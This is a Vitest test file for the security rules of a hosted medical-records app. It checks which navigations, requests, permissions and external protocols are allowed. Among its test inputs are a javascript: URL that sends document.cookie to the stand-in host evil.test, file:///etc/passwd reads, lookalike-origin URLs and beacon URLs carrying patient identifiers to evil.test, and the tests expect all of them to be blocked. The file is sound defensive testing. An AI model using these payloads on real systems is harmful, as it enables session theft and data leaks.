import { describe, expect, it } from 'vitest';
import { decideNavigation, decidePermission, decideRequest, decideWindowOpen, hostedAppRules, isExternalProtocol } from '../../../common/hosting/hostedAppRules';
import { policyV1Schema } from '../../../common/policy/policySchema';
import { validPolicy } from '../../support/policyFixtures';

const base = validPolicy();
const policy = policyV1Schema.parse({ ...base, apps: [{ ...base.apps[0], permissions: ['microphone', 'notifications'] }] });
function firstApp(p: typeof policy) {
  const [app] = p.apps;
  if (app === undefined) throw new Error('policy has no app');
  return app;
}
const rules = hostedAppRules(policy, firstApp(policy));
const demo = policyV1Schema.parse({
  ...base,
  environment: 'demo',
  apps: [{ ...base.apps[0], startUrl: 'http://127.0.0.1:4410/', navigationOrigins: ['http://127.0.0.1:4410'], requestOrigins: [] }],
});
const demoRules = hostedAppRules(demo, firstApp(demo));

describe('navigation decisions', () => {
  it('allows the approved origins and nothing that merely looks like them', () => {
    expect(decideNavigation(rules, 'https://ehr.example.com/chart/1?x=y')).toEqual({ allowed: true });
    expect(decideNavigation(rules, 'https://EHR.example.com:443/')).toEqual({ allowed: true });
    expect(decideNavigation(rules, 'https://login.example.com/authorize')).toEqual({ allowed: true });
    for (const lookalike of [
      'https://ehr.example.com.evil.test/',
      'https://evil.test/https://ehr.example.com/',
      'https://ehr.example.com@evil.test/',
      'https://ehr.example.com:8443/',
      'http://ehr.example.com/',
      'https://sub.ehr.example.com/',
      'https://api.ehr.example.com/', // a request origin, not a navigation origin
    ]) {
      expect(decideNavigation(rules, lookalike).allowed, lookalike).toBe(false);
    }
  });

  it('refuses javascript:, data:, file:, blob: and custom schemes, auditing only the scheme', () => {
    expect(decideNavigation(rules, 'javascript:fetch("https://evil.test/?"+document.cookie)')).toEqual({ allowed: false, reason: 'scheme-not-allowed', origin: 'javascript:' });
    expect(decideNavigation(rules, 'data:text/html,<h1>phish</h1>')).toMatchObject({ allowed: false, origin: 'data:' });
    expect(decideNavigation(rules, 'file:///etc/passwd')).toMatchObject({ allowed: false, origin: 'file:' });
    expect(decideNavigation(rules, 'blob:https://ehr.example.com/3f1c')).toMatchObject({ allowed: false, origin: 'blob:' });
    expect(decideNavigation(rules, 'mailto:x@evil.test')).toMatchObject({ allowed: false, origin: 'mailto:' });
    expect(decideNavigation(rules, 'not a url')).toEqual({ allowed: false, reason: 'invalid-url', origin: 'invalid-url' });
  });

  it('audits the origin of a blocked navigation, never its path or query', () => {
    const verdict = decideNavigation(rules, 'https://evil.test/upload?mrn=SYN-0001&name=Testpatient');
    expect(verdict).toEqual({ allowed: false, reason: 'origin-not-approved', origin: 'https://evil.test' });
  });

  it('lets empty frames through (about:blank, about:srcdoc)', () => {
    expect(decideNavigation(rules, 'about:blank').allowed).toBe(true);
    expect(decideNavigation(rules, 'about:srcdoc').allowed).toBe(true);
  });

  it('allows plain http only to loopback and only under a demo policy', () => {
    expect(decideNavigation(demoRules, 'http://127.0.0.1:4410/chart').allowed).toBe(true);
    expect(decideNavigation(demoRules, 'http://127.0.0.1:9999/').allowed).toBe(false);
    expect(decideNavigation({ ...demoRules, allowLoopbackHttp: false }, 'http://127.0.0.1:4410/')).toMatchObject({ allowed: false, reason: 'insecure-transport' });
  });

  it('treats window.open exactly like a navigation', () => {
    expect(decideWindowOpen(rules, 'https://ehr.example.com/popup').allowed).toBe(true);
    expect(decideWindowOpen(rules, 'https://evil.test/popup').allowed).toBe(false);
  });
});

describe('request decisions', () => {
  it('allows navigation and request origins, including websockets to them', () => {
    expect(decideRequest(rules, 'https://api.ehr.example.com/v1/patients').allowed).toBe(true);
    expect(decideRequest(rules, 'https://ehr.example.com/app.js').allowed).toBe(true);
    expect(decideRequest(rules, 'wss://ehr.example.com/socket').allowed).toBe(true);
    expect(decideRequest(rules, 'wss://evil.test/socket')).toEqual({ allowed: false, reason: 'origin-not-approved', origin: 'wss://evil.test' });
    expect(decideRequest(rules, 'ws://ehr.example.com/socket')).toMatchObject({ allowed: false, reason: 'insecure-transport' });
    expect(decideRequest(demoRules, 'ws://127.0.0.1:4410/socket').allowed).toBe(true);
  });

  it('refuses beacons, images and fetches to anywhere else, and http to approved hosts', () => {
    expect(decideRequest(rules, 'https://evil.test/pixel.gif?d=SYN-0001')).toEqual({ allowed: false, reason: 'origin-not-approved', origin: 'https://evil.test' });
    expect(decideRequest(rules, 'http://api.ehr.example.com/v1')).toMatchObject({ allowed: false, reason: 'insecure-transport' });
    expect(decideRequest(rules, 'file:///etc/hosts')).toMatchObject({ allowed: false, reason: 'scheme-not-allowed' });
    expect(decideRequest(rules, 'chrome-extension://abc/x.js').allowed).toBe(false);
  });

  it('lets a page use data it already holds (data:, blob:)', () => {
    expect(decideRequest(rules, 'data:image/png;base64,iVBORw0KGgo=').allowed).toBe(true);
    expect(decideRequest(rules, 'blob:https://ehr.example.com/6c1a').allowed).toBe(true);
  });
});

describe('permission decisions', () => {
  it('grants only what the policy lists', () => {
    expect(decidePermission(rules, 'media', ['audio']).allowed).toBe(true);
    expect(decidePermission(rules, 'media', ['audio', 'video'])).toEqual({ allowed: false, reason: 'permission-camera', origin: 'permission' });
    expect(decidePermission(rules, 'media', []).allowed).toBe(false);
    expect(decidePermission(rules, 'notifications').allowed).toBe(true);
    for (const denied of ['geolocation', 'clipboard-read', 'display-capture', 'midiSysex', 'openExternal', 'hid', 'usb', 'serial', 'unknown', 'fullscreen']) {
      expect(decidePermission(rules, denied).allowed, denied).toBe(false);
    }
  });
});

describe('external protocols', () => {
  it('recognises schemes that would leave for another program', () => {
    for (const url of ['mailto:a@b.test', 'tel:+15550100', 'zoommtg://x', 'ms-word:ofe|u|https://x', 'sms:123']) expect(isExternalProtocol(url), url).toBe(true);
    for (const url of ['https://ehr.example.com/', 'about:blank', 'javascript:void 0', 'data:,x']) expect(isExternalProtocol(url), url).toBe(false);
  });
});
